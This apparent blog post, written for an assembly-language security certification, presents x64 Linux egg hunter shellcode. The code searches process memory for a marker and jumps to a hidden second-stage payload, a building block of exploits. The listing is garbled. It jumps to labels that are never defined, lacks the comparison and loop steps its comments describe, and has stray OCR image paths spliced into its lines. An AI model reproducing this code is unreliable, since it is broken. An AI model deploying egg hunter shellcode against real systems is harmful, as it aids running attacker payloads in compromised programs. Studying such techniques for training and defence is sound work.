lunes, 26 de mayo de 2014

[SLAEx64] III EggHunter

Source: SecurityTube

x32 bits EggHunter can be found here

;SLAE-1322 Andriy Brukhovetskyy
;egg hunting explained some techniques
;43 bytes

global _start
section .text

    xor rcx, rcx    ; 0
    ;getconf PAGE_SIZE in x64 is the same
    or dx, 0xfff    ; is the same as "add dx, 4095" (PAGE_SIZE)

    inc rdx         ; next memory offset
    push byte +0x15 ; __NR_access 21
    pop rax

    lea rbx, [rdx+8] ; alignment to validate the last four bytes of the signature
                     ; rcx already contains 0 (F_OK)
    syscall          ; syscall
    ;grep EFAULT /usr/include/asm-generic/errno-base.h;bad address = EFAULT = 0xf2 = -14
    cmp al, 0xf2; because it's not a file

    jz get_memory_block ; if is not, loop

    mov rax, 0x5090509050905090 ; egg here in little endiantmov rdi, rdx
    jnz checker ; return and search

    jmp rdi; if we here == we found the eggs, jump to our shellcode :)
SLAE64 - 1322

This blog post has been created forcompleting the requirementsof the SecurityTube Linux Assembly Expert certification:

SecurityTube Linux Assembly Expert x64

No haycomentarios:

Publicar un comentario